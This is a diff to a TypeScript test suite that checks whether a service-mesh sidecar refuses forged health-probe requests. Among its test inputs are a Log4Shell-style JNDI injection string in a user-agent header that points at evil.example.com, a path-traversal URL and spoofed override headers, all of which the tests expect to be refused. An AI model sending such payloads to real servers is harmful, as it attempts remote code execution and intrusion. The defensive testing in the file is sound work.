@@ -6,8 +6,16 @@ import type { InboundPortIr } from '../../operator/ir/inbound.ts';
 import type { WorkloadIr } from '../../operator/ir/mesh-ir.ts';
 import type { ServicePortIr } from '../../operator/ir/service.ts';
 import { refusedHeader, replyMarkers } from '../../operator/envoy/resources/names.ts';
-import { startApplication, startGreeter } from '../support/data-plane/applications.ts';
-import { call, converse, listenOnly, seenBy } from '../support/data-plane/callers.ts';
+import { type Seen, startApplication, startGreeter } from '../support/data-plane/applications.ts';
+import {
+  type Call,
+  call,
+  converse,
+  listenOnly,
+  ofGrpcKubelet,
+  ofKubelet,
+  seenBy,
+} from '../support/data-plane/callers.ts';
 import { Closing } from '../support/data-plane/closing.ts';
 import { type Sidecar, startSidecars } from '../support/data-plane/sidecars.ts';
 import { freePort } from '../support/kubernetes/free-port.ts';
@@ -17,6 +25,7 @@ import {
   sampleIdentity,
   sampleInbound,
   sampleMesh,
+  sampleProbe,
   sampleRule,
   sampleService,
   sampleWorkload,
@@ -66,10 +75,14 @@ const readReviews = {
 };
 
 const probes = [
-  { method: 'GET', path: '/healthz', timeoutMs: 5000 },
-  { method: 'GET', path: '/ready?full=1', timeoutMs: 5000 },
-  { method: 'POST', path: '/grpc.health.v1.Health/Check', timeoutMs: 5000 },
-] as const;
+  sampleProbe('/healthz'),
+  sampleProbe('/ready?full=1'),
+  sampleProbe('/declared', {
+    host: 'shop.example.com',
+    headers: { authorization: 'Basic cHJvYmU6', 'user-agent': '', 'x-forwarded-proto': 'https' },
+  }),
+  sampleProbe('/grpc.health.v1.Health/Check', { method: 'POST' }),
+];
 
 const ports: Readonly<Record<string, Partial<InboundPortIr>>> = {
   strict: { mtls: 'Strict' },
@@ -97,6 +110,8 @@ const ports: Readonly<Record<string, Partial<InboundPortIr>>> = {
   'probed-tcp-guarded': { protocol: 'TCP', mtls: 'Permissive', authorization: onlyFriend, probes },
   'probed-tcp-closed': { protocol: 'TCP', mtls: 'Disabled', authorization: onlyFriend, probes },
 };
+/** As gRPC asks. */
+const grpc = { method: 'POST', path: '/grpc.health.v1.Health/Check', headers: ofGrpcKubelet };
 const probed = Object.keys(ports).filter((name) => name.startsWith('probed-'));
 
 beforeAll(async () => {
@@ -200,7 +215,7 @@ describe('mutual TLS on HTTP ports', () => {
   test('an application cannot speak with the words of sidecars', async () => {
     const answers = [
       await call(straightTo('permissive')),
-      await call(straightTo('probed-strict'), { path: '/healthz' }),
+      await call(straightTo('probed-strict'), { path: '/healthz', headers: ofKubelet }),
     ];
 
     for (const { status, headers } of answers) {
@@ -341,16 +356,62 @@ describe.each(probed)('probes of a port, in plaintext and without an identity: %
       headers: { connection: 'upgrade', upgrade: 'websocket' },
       status: 403,
     },
-    { it: 'a gRPC probe', method: 'POST', path: '/grpc.health.v1.Health/Check', status: 200 },
+    { it: 'the probe of a client', path: '/healthz', headers: { 'user-agent': 'curl/8.0' }, status: 403 },
+    {
+      it: 'the probe of a client that says more',
+      path: '/healthz',
+      headers: { 'user-agent': 'kube-probe/1.34 ${jndi:ldap://evil.example.com}' },
+      status: 403,
+    },
+    { it: 'the probe for another type', path: '/healthz', headers: { accept: 'text/csv' }, status: 403 },
+    { it: 'the probe of another host', path: '/healthz', headers: { host: 'admin.local' }, status: 403 },
+    { it: 'the probe of an IPv6 pod', path: '/healthz', headers: { host: '[fd00::1]:8080' }, status: 200 },
+    { it: 'a probe without its headers', path: '/declared', status: 403 },
+    { it: 'a gRPC probe', ...grpc, status: 200 },
     { it: 'its path by another method', method: 'POST', path: '/healthz', status: 403 },
     { it: 'what lies below', path: '/healthz/x', status: 403 },
     { it: 'another path', path: '/reviews/1', status: 403 },
     { it: 'a way out', path: '/healthz/../reviews/1', status: 403 },
-  ])('$it: $status', async ({ status, ...asked }) => {
-    const answer = await call(straightTo(name), asked);
+  ])('$it: $status', async ({ status, headers = {}, ...asked }: Call & { status: number }) => {
+    const answer = await call(straightTo(name), { ...asked, headers: { ...ofKubelet, ...headers } });
 
     const isTold = String(answer.headers['x-meshwright-refused']).endsWith('-required');
     expect([answer.status, isTold]).toEqual([status, status === 403 && isToldWhy]);
+  });
+
+  test('the application sees what a kubelet says and the pod declares, and nothing else', async () => {
+    const more = {
+      'x-original-url': '/reviews/1',
+      'x-http-method-override': 'DELETE',
+      cookie: 'session=1',
+      'user-agen': '1',
+      'accept-language': 'de',
+      x: 'y',
+    };
+    const declared = {
+      host: 'shop.example.com',
+      authorization: 'Basic cHJvYmU6',
+      'x-forwarded-proto': 'https',
+    };
+    const seen = async (asked: Call): Promise<Seen> => seenBy(straightTo(name), asked);
+
+    const plain = await seen({ path: '/healthz', headers: { ...ofKubelet, authorization: 'no', ...more } });
+    const own = await seen({ path: '/declared', headers: { accept: '*/*', ...declared, ...more } });
+    const called = await seen({ ...grpc, headers: { ...grpc.headers, 'grpc-timeout': '1S', ...more } });
+
+    const names = [plain, own, called].map(({ headers }) => Object.keys(headers).toSorted());
+    expect(names).toEqual([
+      ['accept', 'host', 'user-agent'],
+      ['accept', 'authorization', 'host', 'x-forwarded-proto'],
+      ['content-length', 'content-type', 'grpc-timeout', 'host', 'te', 'user-agent'],
+    ]);
+  });
+
+  test('a gRPC probe that is too large is refused, as gRPC refuses', async () => {
+    const { headers } = await call(straightTo(name), { ...grpc, body: 'x'.repeat(1025) });
+
+    // RESOURCE_EXHAUSTED or UNKNOWN: of the sidecar, since the application knows no gRPC.
+    expect(Number(headers['grpc-status'])).toBeGreaterThan(0);
   });
 
   test('callers with an identity are served, where there are any', async () => {
